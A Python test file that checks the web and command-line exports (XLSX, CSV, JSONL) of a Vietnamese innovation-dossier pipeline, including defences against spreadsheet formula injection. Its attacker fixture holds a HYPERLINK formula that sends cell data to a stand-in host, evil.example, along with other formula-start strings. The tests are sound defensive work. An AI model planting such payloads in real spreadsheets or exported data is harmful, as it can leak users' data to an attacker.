"""Exports of the web page and the command line: no spreadsheet cell runs a dossier's text as a formula, the
council's XLSX has a heading, an autofilter and real dates, the CSV is Vietnamese, and both the CSV and the
contract's JSONL carry the reviewer's decision."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import date, datetime

import jsonschema
import openpyxl
import pytest

from pipeline import export
from pipeline.config import BatchSpec
from pipeline.dossier import process_entry
from pipeline.inbox import discover
from tests.conftest import ROOT, write_form_docx
from tests.web_support import Site

# A dossier written by an attacker: each field a spreadsheet would read as a formula.
ATTACK = {"title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "author": "@Nguyễn Văn Độc",
          "unit": "+84 UBND phường Thuận Phước"}
RETURN_REASON = "-Thiếu xác nhận của đơn vị áp dụng"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what a spreadsheet may read as a formula


def _add_attack(site: Site) -> str:
    """Process the attacker's dossier like any other and return it with a reason that starts with '-'."""
    inbox = site.settings.inbox
    write_form_docx(inbox / "tan-cong.docx", ATTACK["title"], ATTACK["author"], ATTACK["unit"])
    spec = BatchSpec.of(site.settings, inbox, stable_seconds=0)
    for entry in discover(inbox):
        process_entry(site.store, spec, entry)
    site.login()
    fingerprint = site.fingerprint("tan-cong.docx")
    assert site.post(f"/d/{fingerprint}/return", comment=RETURN_REASON).status_code == 303
    return fingerprint


def _sheet(site: Site, query: str = ""):
    response = site.client.get(f"/export.xlsx?{query}")
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _csv(site: Site, query: str = "") -> list[list[str]]:
    response = site.client.get(f"/export.csv?{query}")
    assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_xlsx_cells_that_look_like_formulas_stay_text(site: Site):
    _add_attack(site)
    sheet = _sheet(site)
    line = next(line for line in sheet.iter_rows() if line[1].value == ATTACK["title"])
    assert [(cell.value, cell.data_type) for cell in line[1:4]] == [
        (ATTACK["title"], "s"), (ATTACK["author"], "s"), (ATTACK["unit"], "s")]
    assert (line[8].value, line[8].data_type) == (RETURN_REASON, "s")
    assert (line[6].value, line[6].data_type) == (150_000_000, "n")  # numbers stay numbers
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_xlsx_drops_control_characters_a_sheet_cannot_hold(site: Site):
    site.login()
    fingerprint = site.fingerprint("kho-dien-tu.docx")
    assert site.post(f"/d/{fingerprint}/correct", field="title", value="Phần mềm\x07 quản lý kho").status_code == 303
    titles = [line[1].value for line in _sheet(site).iter_rows()]  # openpyxl refused the whole file before
    assert "Phần mềm quản lý kho" in titles


def test_csv_cells_that_look_like_formulas_get_a_quote(site: Site):
    _add_attack(site)
    header, *rows = _csv(site)
    row = dict(zip(header, next(r for r in rows if r[header.index("Tệp hoặc thư mục nộp")] == "tan-cong.docx")))
    assert row["Tên sáng kiến"] == "'" + ATTACK["title"] and row["Tác giả"] == "'" + ATTACK["author"]
    assert row["Đơn vị"] == "'" + ATTACK["unit"] and row["Lý do trả lại / Ghi chú"] == "'" + RETURN_REASON
    assert row["Số tiền làm lợi (đồng)"] == "150000000"
    assert not [cell for r in rows for cell in r if cell.startswith(FORMULA_STARTS)]  # every text cell, every row
    # The JSONL is data, not a spreadsheet: the text is as written.
    record = next(json.loads(line) for line in site.client.get("/export.jsonl").text.splitlines()
                  if json.loads(line)["source"] == "tan-cong.docx")
    assert record["title"] == ATTACK["title"] and record["review"]["comment"] == RETURN_REASON


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_every_formula_start_is_neutralised(text):
    assert export.csv_cell(text) == "'" + text
    assert export.csv_cell("Số hóa " + text) == "Số hóa " + text and export.csv_cell(150_000_000) == 150_000_000


def test_the_council_list_has_a_heading_an_autofilter_and_real_dates(site: Site):
    site.login()
    month_only = site.fingerprint("kho-dien-tu.docx")
    assert site.post(f"/d/{month_only}/correct", field="first_applied", value="09/2023").status_code == 303
    sheet = _sheet(site, "unit=UBND phường Hải Châu")
    assert sheet["A1"].value == "DANH SÁCH SÁNG KIẾN ĐỀ NGHỊ CÔNG NHẬN" and sheet["A1"].font.b
    assert sheet["A2"].value.startswith(f"Xuất ngày {date.today():%d/%m/%Y}")
    assert [cell.value for cell in sheet[3]][:3] == ["STT", "Tên sáng kiến", "Tác giả"] and sheet["A3"].font.b
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == "A3:I5"
    day = sheet["F4"]
    assert day.is_date and day.value == datetime(2023, 9, 5) and day.number_format == "dd/mm/yyyy"

    everything = _sheet(site)
    by_title = {line[1].value: line for line in everything.iter_rows(min_row=4)}
    month = by_title["Phần mềm quản lý kho vật tư"][5]
    assert (month.value, month.data_type) == ("09/2023", "s")  # a month is not a day: text
    assert everything.auto_filter.ref == f"A3:I{3 + len(site.store.rows())}"


def test_csv_is_vietnamese_and_carries_the_review(site: Site):
    site.login()
    returned = site.fingerprint("ban-do-so.docx")
    site.post(f"/d/{returned}/return", comment="Bổ sung số liệu")
    header, *rows = _csv(site)
    assert header == ["Tên hồ sơ", "Tệp hoặc thư mục nộp", "Trạng thái", "Tên sáng kiến", "Tác giả", "Đơn vị",
                      "Mã lĩnh vực", "Lĩnh vực", "Lĩnh vực ghi trong hồ sơ", "Ngày áp dụng lần đầu",
                      "Số tiền làm lợi (đồng)", "Làm lợi mỗi năm", "Nơi nhận (Kính gửi)", "Độ tin cậy thấp nhất (%)",
                      "Lỗi", "Người duyệt", "Thời điểm duyệt", "Lý do trả lại / Ghi chú", "Có thể trùng lặp với"]
    by_source = {row[1]: dict(zip(header, row)) for row in rows}
    back = by_source["ban-do-so.docx"]
    assert back["Trạng thái"] == "Trả lại" and back["Người duyệt"] == "lan"
    assert back["Lý do trả lại / Ghi chú"] == "Bổ sung số liệu"
    assert back["Thời điểm duyệt"].startswith(f"{date.today():%d/%m/%Y} ")
    assert back["Ngày áp dụng lần đầu"] == "05/09/2023" and back["Làm lợi mỗi năm"] == "Có"
    failed = by_source["hong.pdf"]
    assert failed["Trạng thái"] == "Lỗi" and failed["Lỗi"].startswith("Tệp PDF") and failed["Người duyệt"] == ""
    statuses = {row["Trạng thái"] for row in by_source.values()}
    assert statuses == {"Chờ duyệt", "Trả lại", "Lỗi"}
    assert all(row["Độ tin cậy thấp nhất (%)"].isdigit() for row in by_source.values() if row["Trạng thái"] != "Lỗi")

    # The command line writes the same file, with the same review.
    printed = subprocess.run([sys.executable, "-m", "flows.cli", "export", "--format", "csv"], cwd=ROOT,
                             capture_output=True, text=True, timeout=60)
    assert printed.returncode == 0, printed.stderr
    assert "Bổ sung số liệu" in printed.stdout and printed.stdout.startswith("Tên hồ sơ,")


def test_jsonl_keeps_the_contract_and_adds_the_review(site: Site, record_schema):
    site.login()
    returned = site.fingerprint("ban-do-so.docx")
    site.post(f"/d/{returned}/return", comment="Bổ sung số liệu")
    records = {r["source"]: r for r in map(json.loads, site.client.get("/export.jsonl").text.splitlines())}
    for record in records.values():
        jsonschema.validate(record, record_schema)
        assert list(record) == [*export.CONTRACT_KEYS, "review", "similar"]
        assert record["similar"] == []  # three Word forms of one template, four demo dossiers: none alike
    back = records["ban-do-so.docx"]
    assert back["status"] == "returned"  # machine data keeps the contract's codes
    assert set(back["review"]) == {"by", "at", "comment"}
    assert back["review"]["by"] == "lan" and back["review"]["comment"] == "Bổ sung số liệu"
    assert datetime.fromisoformat(back["review"]["at"]).utcoffset().total_seconds() == 0
    assert records["kho-dien-tu.docx"]["review"] is None and records["hong.pdf"]["status"] == "failed"
